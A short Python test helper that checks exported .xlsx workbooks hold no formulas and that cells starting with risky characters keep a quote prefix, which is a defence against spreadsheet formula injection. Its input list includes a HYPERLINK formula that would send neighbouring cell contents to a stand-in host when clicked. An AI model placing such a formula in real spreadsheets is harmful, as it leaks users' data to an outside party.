"""Reading an exported .xlsx as a spreadsheet program would: which cells are formulas."""

from io import BytesIO

from openpyxl import load_workbook

# A collaborator's address that, live, sends the neighbouring cells away on one click.
FORMULA = '=HYPERLINK("http://x.example?d="&B7&C7,"Bấm vào đây")'
RISKY = [FORMULA, "+84 912 (gọi)", "-5 tuổi", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells(raw: bytes) -> list:
    book = load_workbook(BytesIO(raw))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_text_only(raw: bytes, *expected: str) -> None:
    """No cell of the workbook is a formula, and each ``expected`` text is there, as written,
    in a text cell that keeps its quote prefix (so that editing it keeps it text)."""
    found = cells(raw)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    for text in (t.replace("\r", "\n") for t in expected):  # XML reads a CR as a line feed
        holding = [c for c in found if isinstance(c.value, str) and text in c.value]
        assert holding, f"{text!r} is not in the workbook"
        assert all(c.data_type == "s" for c in holding)
        assert all(c.quotePrefix for c in holding if c.value[:1] in "=+-@\t\r")
